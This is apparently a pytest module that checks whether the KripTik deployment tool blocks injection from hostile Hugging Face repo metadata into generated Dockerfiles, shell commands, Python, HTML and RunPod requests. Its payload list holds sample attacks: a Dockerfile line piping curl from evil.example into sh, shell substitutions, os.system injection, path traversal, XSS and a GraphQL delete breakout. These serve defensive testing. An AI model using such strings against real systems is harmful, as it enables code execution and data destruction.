"""Injection into what KripTik generates and sends: Dockerfiles, shell commands, Python
source, JSON bodies (never GraphQL) and file paths. The hostile text starts where an
attacker controls it, in a Hugging Face repo, and goes through the real path: the Hub
fake, `inspect_model`, `plan_worker`, `render_worker`, the web app renderer and the
RunPod client.

The per-value unit tests live with the generators (tests/artifacts/test_values.py,
tests/webapp/test_render.py); these check the whole route end to end."""

from __future__ import annotations

import ast
import json
import re
import shlex
from collections.abc import AsyncIterator, Iterator
from html.parser import HTMLParser
from pathlib import Path, PurePosixPath
from typing import Any

import httpx
import pytest
from huggingface_hub import constants as hf_constants
from pydantic import SecretStr

from tests.artifacts.conftest import requirements
from tools.artifacts.client.spec import EndpointInfo
from tools.artifacts.webapp import AppSpec, render_app
from tools.artifacts.worker import (
    UnsafeValue,
    WorkerPlan,
    build_commands,
    plan_worker,
    render_worker,
    resource_name,
    vllm_env,
)
from tools.clients import HuggingFaceClient, RunPodClient, SizingHubReader
from tools.clients._http import Retry
from tools.clients.runpod_models import TemplateSpec
from tools.simulator import hf_repos
from tools.simulator.huggingface import DEFAULT_TOKEN, HuggingFaceFake
from tools.simulator.runpod import DEFAULT_KEY, RunPodFake
from tools.simulator.server import serve
from tools.sizing import SizingError, inspect_model

MARK = "KRIPTIK_PWNED"
# What an attacker writes into a repo's metadata: every way out of a Dockerfile line, a
# shell word, a Python string or a JSON string.
PAYLOADS = [
    f"text-generation\nRUN curl https://evil.example/{MARK} | sh",
    f"x $(touch /tmp/{MARK})",
    f"x `touch /tmp/{MARK}`",
    f'x"; import os; os.system("{MARK}"); "',
    f"x'\n{MARK} = 1\n'",
    f"x\\\nRUN {MARK}",
    f"x\u2028{MARK}",
    f"${{{MARK}}}",
]
ROOT = Path(__file__).resolve().parents[2]


@pytest.fixture(scope="module")
def hub() -> Iterator[tuple[HuggingFaceFake, str]]:
    fake = HuggingFaceFake()
    with serve(fake) as url:
        yield fake, url


@pytest.fixture
async def hub_client(
    hub: tuple[HuggingFaceFake, str], monkeypatch: pytest.MonkeyPatch
) -> AsyncIterator[HuggingFaceClient]:
    monkeypatch.setattr(hf_constants, "HF_HUB_OFFLINE", False)
    hub[0].reset()
    async with httpx.AsyncClient(trust_env=False) as http:
        yield HuggingFaceClient(
            http=http, base_url=hub[1], token=SecretStr(DEFAULT_TOKEN), retry=Retry(max_attempts=1)
        )
    hub[0].assert_clean()


def _dockerfile_instructions(text: str) -> list[str]:
    """The instruction keyword of every logical line (continuations joined)."""
    logical, current = [], ""
    for line in text.splitlines():
        if line.strip().startswith("#") and not current:
            continue
        current += line
        if line.endswith("\\"):
            current = current[:-1]
            continue
        if current.strip():
            logical.append(current.strip().split()[0].upper())
        current = ""
    return logical


def _assert_clean_build_context(files: dict[str, str]) -> None:
    """No file carries the attacker's mark outside a JSON value, and every file parses."""
    allowed = {
        "FROM",
        "ARG",
        "ENV",
        "RUN",
        "COPY",
        "WORKDIR",
        "CMD",
        "LABEL",
        "USER",
        "HEALTHCHECK",
        "EXPOSE",  # SageMaker's port, 8080: a fixed number, no text of the model's
    }
    for name, text in files.items():
        assert PurePosixPath(name).name == name and not name.startswith("..")
        if name == "Dockerfile":
            assert set(_dockerfile_instructions(text)) <= allowed, text
            assert MARK not in text
        elif name.endswith(".py"):
            ast.parse(text, filename=name)
            assert MARK not in text
        elif name.endswith(".json"):
            json.loads(text)


@pytest.mark.parametrize("payload", PAYLOADS)
async def test_a_hostile_pipeline_tag_on_the_hub_never_reaches_a_build_file(
    hub: tuple[HuggingFaceFake, str], hub_client: HuggingFaceClient, payload: str
) -> None:
    repo = hf_repos.safetensors_repo("kriptik-test/hostile-tag")
    repo.pipeline_tag = payload
    repo.library_name = "transformers"
    hub[0].add_repo(repo)
    found = await inspect_model(SizingHubReader(hub_client), repo.repo_id)
    assert found.pipeline_tag == payload  # the hostile text really arrived
    with pytest.raises(UnsafeValue, match="cannot go into a Dockerfile"):
        plan_worker(found.model_copy(update={"architecture": None}))


@pytest.mark.parametrize("field", ["model_type", "architectures", "torch_dtype", "auto_map"])
async def test_a_hostile_config_json_plans_a_safe_worker_or_none(
    hub: tuple[HuggingFaceFake, str], hub_client: HuggingFaceClient, field: str
) -> None:
    repo = hf_repos.safetensors_repo("kriptik-test/hostile-config")
    config = json.loads(repo.files["config.json"].content)
    hostile = PAYLOADS[0]
    config[field] = (
        [hostile] if field == "architectures" else {"AutoModel": hostile} if field == "auto_map"
        else hostile
    )  # fmt: skip
    repo.add(hf_repos.HubFile.json("config.json", config))
    repo.pipeline_tag = "text-classification"
    hub[0].add_repo(repo)
    try:
        found = await inspect_model(SizingHubReader(hub_client), repo.repo_id)
        plan = plan_worker(found)
    except (SizingError, UnsafeValue) as refused:
        assert str(refused)  # refused with a reason the agent can pass on
        return
    if plan.needs_build:
        _assert_clean_build_context(render_worker(plan, secret=True).files)
    else:
        assert all(MARK not in v for v in vllm_env(plan, hf_secret="hf_token").values())


@pytest.mark.parametrize("payload", PAYLOADS)
def test_free_text_reaches_only_json_and_round_trips(payload: str) -> None:
    plan = plan_worker(requirements("transformers"))
    files = render_worker(plan, secret=False, sample_prompt=payload).files
    _assert_clean_build_context(files)
    assert json.loads(files["test_input.json"])["input"]["inputs"] == payload


@pytest.mark.parametrize("payload", PAYLOADS)
def test_printed_build_commands_are_exactly_the_intended_words(payload: str) -> None:
    image = "registry.example/kriptik/worker:1"
    lines = build_commands(f"/tmp/{payload}", image, secret=True, hf_endpoint=payload)
    words = shlex.split(lines[1])
    assert words[-1] == f"/tmp/{payload}"
    assert f"HF_ENDPOINT={payload}" in words
    assert shlex.split(lines[2]) == ["docker", "push", image]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_resource_names_from_hostile_ids_are_plain_slugs(payload: str) -> None:
    name = resource_name(payload, payload)
    assert re.fullmatch(r"kriptik-[a-z0-9]+(-[a-z0-9]+)*", name), name


def test_a_hostile_revision_or_image_cannot_be_planned() -> None:
    for changes in ({"sha": "../../etc"}, {"sha": "main\nRUN id"}, {"repo_id": "a/b c"}):
        with pytest.raises(UnsafeValue):
            plan_worker(requirements("transformers", **changes))
    with pytest.raises(UnsafeValue):
        plan_worker(requirements("vllm"), vllm_image="runpod/worker:1 --privileged")
    with pytest.raises(UnsafeValue):
        vllm_env(plan_worker(requirements("vllm")), hf_secret="x }} {{ RUNPOD_SECRET_other")


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))


def _tags(html: str) -> list[tuple[str, dict[str, str | None]]]:
    parser = _Tags()
    parser.feed(html)
    return parser.tags


@pytest.mark.parametrize(
    "kind", [("llm", None), ("image", None), ("media", "video"), ("generic", None)]
)
def test_web_app_pages_keep_their_markup_whatever_the_title_and_input(
    kind: tuple[str, str | None],
) -> None:
    endpoint = EndpointInfo(endpoint_id="abc123", model_id="kriptik-test/tiny")
    hostile = f'</title></script><script>alert("{MARK}")</script><img src=x onerror={MARK}>'

    def spec(title: str, example: dict[str, Any]) -> AppSpec:
        return AppSpec(kind=kind[0], media=kind[1], project="demo", title=title,  # type: ignore[arg-type]
                       description=title, endpoint=endpoint, example_input=example)  # fmt: skip

    plain = render_app(spec("Demo", {"prompt": "hi"})).files
    evil = render_app(spec(hostile[:80], {"prompt": hostile, "</script>": hostile})).files
    page, base = evil["public/index.html"].decode(), plain["public/index.html"].decode()
    assert [t for t, _ in _tags(page)] == [t for t, _ in _tags(base)]
    assert not any(
        name.startswith("on") for _, attrs in _tags(page) for name in attrs
    )  # no event handler attribute came in
    assert "<script>alert" not in page and "</script><script>" not in page
    for name, raw in evil.items():
        path = PurePosixPath(name)
        assert not path.is_absolute() and ".." not in path.parts and "\\" not in name
        assert "<script>alert" not in raw.decode(), name  # escaped for HTML, JS and Markdown


def test_generated_trees_write_only_under_their_directory(tmp_path: Path) -> None:
    worker = render_worker(plan_worker(requirements("diffusers")), secret=True)
    app = render_app(
        AppSpec(kind="generic", project="demo", title="Demo",
                endpoint=EndpointInfo(endpoint_id="abc123", model_id="kriptik-test/tiny"))
    )  # fmt: skip
    worker.write(tmp_path / "worker")
    app.write_to(tmp_path / "app")
    written = [p for p in tmp_path.rglob("*") if p.is_file()]
    assert written and all(p.resolve().is_relative_to(tmp_path.resolve()) for p in written)
    assert len(written) == len(worker.files) + len(app.files)


@pytest.fixture
async def runpod() -> AsyncIterator[tuple[RunPodFake, RunPodClient]]:
    fake = RunPodFake()
    with serve(fake) as url:
        async with httpx.AsyncClient(trust_env=False) as http:
            yield fake, RunPodClient(
                http=http, base_url=f"{url}/v2", token=SecretStr(DEFAULT_KEY),
                retry=Retry(max_attempts=1),
            )  # fmt: skip
    fake.assert_clean()


async def test_runpod_gets_json_bodies_never_inlined_query_text(
    runpod: tuple[RunPodFake, RunPodClient],
) -> None:
    fake, client = runpod
    graphql_breakout = 'x"}) { deleteEndpoint(id: "ep-victim") } mutation { a(b: "'
    env = {"PROMPT_PREFIX": graphql_breakout, "MODEL_NAME": PAYLOADS[3]}
    name = resource_name("dep-1", "kriptik-test/tiny")
    template = await client.ensure_template(
        TemplateSpec(name=name, image="runpod/worker:1", env=env)
    )
    sent = fake.calls_to("POST /v2/templates")[0].json()
    assert sent["env"] == env and sent["name"] == name
    assert all(call.path.startswith("/v2/") for call in fake.calls)
    assert template.name == name


def test_no_module_speaks_graphql() -> None:
    """RunPod's GraphQL API inlines strings into queries; KripTik never calls it."""
    sources = [p for pkg in ("tools", "agent", "ui", "vault") for p in (ROOT / pkg).rglob("*.py")]
    offenders = [
        str(p.relative_to(ROOT)) for p in sources
        if re.search(r"api\.runpod\.io/graphql|/graphql\b", p.read_text())
    ]  # fmt: skip
    assert offenders == []


def test_worker_plans_carry_only_checked_values() -> None:
    """Every string field of a plan that reaches a template passes the Dockerfile check."""
    for kind in ("vllm", "diffusers", "transformers", "custom"):
        plan: WorkerPlan = plan_worker(requirements(kind))
        for value in (plan.repo_id, plan.revision, plan.task, plan.base_image, plan.image or "x"):
            assert re.fullmatch(r"[A-Za-z0-9_./:@+=,-]+", value)
